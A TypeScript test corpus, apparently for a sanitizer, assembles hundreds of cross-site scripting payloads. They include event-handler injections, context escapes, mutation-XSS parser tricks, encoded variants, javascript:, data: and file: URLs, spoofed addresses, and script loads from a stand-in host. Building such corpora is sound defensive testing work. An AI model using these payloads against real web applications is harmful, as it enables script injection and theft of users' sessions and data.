/** Texts that run a script, or lead to one, wherever somebody takes them for markup or for an address. Each calls `pwn`. */

const elements = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'iframe',
  'marquee',
];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationend'];
const closings = ['>', ' >', '/>', '//', '\n>', '><'];

const inElements = elements.flatMap((element) =>
  handlers.map((handler, index) => `<${element} ${handler}=pwn(1)${closings[index] ?? '>'}`),
);

/** Out of what a text might stand in: an attribute, another element, a comment, a template, a script. */
const escapes = [
  '"',
  "'",
  '`',
  '-->',
  '</p>',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  ']]>',
  '</template>',
  '${',
  '{{',
];
const outOfContexts = escapes.flatMap((escape) => [
  `${escape}<img src=x onerror=pwn(2)>`,
  `${escape} onmouseover=pwn(2) autofocus onfocus=pwn(2) x=${escape}`,
  `${escape}<script>pwn(2)</script>`,
]);

const scripts = [
  '<script>pwn(3)</script>',
  '<SCRIPT SRC=//elsewhere.invalid/pwn.js></SCRIPT>',
  '<script type=module>pwn(3)</script>',
  '<scr<script>ipt>pwn(3)</scr</script>ipt>',
  '<script\u0000>pwn(3)</script>',
  '<svg><script href="data:text/javascript,pwn(3)" /></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwn(3)>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwn(3)>">',
  '<noscript><p title="</noscript><img src=x onerror=pwn(3)>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwn(3) src>">',
  '<svg><animate onbegin=pwn(3) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:pwn(3) /><a><text>x</text></a></svg>',
  '<math href="javascript:pwn(3)">x</math>',
  '<iframe srcdoc="<script>parent.pwn(3)</script>"></iframe>',
  '<object data="javascript:pwn(3)"></object>',
  '<embed src="javascript:pwn(3)">',
  '<base href="javascript:pwn(3)//">',
  '<meta http-equiv=refresh content="0;url=javascript:pwn(3)">',
  '<link rel=stylesheet href="//elsewhere.invalid/pwn.css">',
  '<style>@import "//elsewhere.invalid/pwn.css"; * { background: url(javascript:pwn(3)) }</style>',
  '<form action=javascript:pwn(3)><button>x</button></form>',
  '<button formaction=javascript:pwn(3) form=x>x</button>',
  '<isindex type=image src=1 onerror=pwn(3)>',
  '<x contenteditable onblur=pwn(3) tabindex=1>x',
  '<dialog open onclose=pwn(3)><form method=dialog><button autofocus>x</button></form></dialog>',
  '<div style="animation-name:enter" onanimationstart=pwn(3)>',
  '<a href="javascript:pwn(3)">x</a>',
  '<a ping="//elsewhere.invalid/" href="#">x</a>',
  '<template shadowrootmode=open><img src=x onerror=pwn(3)></template>',
  '<footbridge-widget open servers="//elsewhere.invalid/" target=x></footbridge-widget>',
  '<slot name=launcher></slot><img slot=launcher src=x onerror=pwn(3)>',
  '{{constructor.constructor("pwn(3)")()}}',
  '${alert`1`}${pwn(3)}',
  '[].constructor.constructor("pwn(3)")()',
  '?lit$123456789$<img src=x onerror=pwn(3)>',
  '<!--?lit$123456789$--><img src=x onerror=pwn(3)>',
  '"><svg/onload=pwn(3)//\'><svg/onload=pwn(3)//`><svg/onload=pwn(3)//',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+pwn(3)//'>",
];

const encodings = [
  '&lt;img src=x onerror=pwn(4)&gt;',
  '&#60;img src=x onerror=pwn(4)&#62;',
  '&#x3c;img src=x onerror=pwn(4)&#x3e;',
  '%3Cimg%20src=x%20onerror=pwn(4)%3E',
  '\\u003cimg src=x onerror=pwn(4)\\u003e',
  '\\x3cimg src=x onerror=pwn(4)\\x3e',
  '＜img src=x onerror=pwn(4)＞',
  '+ADw-img src=x onerror=pwn(4)+AD4-',
  '<img src=x onerror\u000c=pwn(4)>',
  '<img\u000bsrc=x\u000bonerror=pwn(4)>',
  '<img src=x one\u200brror=pwn(4)>',
  '\u202e>)4(nwp=rorreno x=crs gmi<',
  '\ufeff<img src=x onerror=pwn(4)>',
  '\ud800<img src=x onerror=pwn(4)>\udc00',
];

const schemes = [
  'javascript:pwn(5)',
  'jAvAsCrIpT:pwn(5)',
  'java\tscript:pwn(5)',
  'java\nscript:pwn(5)',
  '\u0001javascript:pwn(5)',
  ' javascript:pwn(5)',
  'javascript\u200b:pwn(5)',
  'javascript://shop.example/%0apwn(5)',
  'javascript:https://shop.example/',
  'data:text/html,<script>opener.pwn(5)</script>',
  'data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduKDUpPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload=pwn(5)>',
  'vbscript:pwn(5)',
  'blob:https://shop.example/4f4f',
  'file:///etc/passwd',
  'filesystem:https://shop.example/temporary/x',
  'view-source:https://shop.example/',
  'about:blank#<script>pwn(5)</script>',
  'intent://scan/#Intent;scheme=zxing;end',
  'ws://shop.example/',
  'ftp://shop.example/',
  'mhtml:https://shop.example/!x',
  'feed:javascript:pwn(5)',
  'jar:https://shop.example!/x',
];

/** Addresses that pretend. */
const pretenders = [
  '//elsewhere.invalid/',
  '\\\\elsewhere.invalid\\x',
  '/\\elsewhere.invalid/',
  'https:elsewhere.invalid',
  'https:/elsewhere.invalid',
  'https://shop.example@elsewhere.invalid/',
  'https://user:password@elsewhere.invalid/',
  'https://shop.example\\@elsewhere.invalid/',
  'https://ѕһор.example/',
  'https://xn--80ak6aa92e.example/',
  'https://shop.example/\u202egnp.exe',
  'https://shop.example\u2066.elsewhere.invalid\u2069/',
  'https://shop.example/"onmouseover="pwn(6)"',
  "https://shop.example/'onmouseover='pwn(6)'",
  'https://shop.example/`onmouseover=pwn(6)`',
  'https://shop.example/<img src=x onerror=pwn(6)>',
  'https://shop.example/?q=<script>pwn(6)</script>#javascript:pwn(6)',
  'mailto:ann@shop.example?subject=<script>pwn(6)</script>',
  'mailto:javascript:pwn(6)@shop.example',
  'www.shop.example/"><svg onload=pwn(6)>',
  'www.javascript:pwn(6)',
  'http://[::1]:1/',
  'https://',
  'https://%00/',
];

const addresses = [...schemes, ...pretenders];

export const corpus: readonly string[] = [
  ...inElements,
  ...outOfContexts,
  ...scripts,
  ...encodings,
  ...addresses,
  ...addresses.map((address) => `<a href="${address}">x</a>`),
];
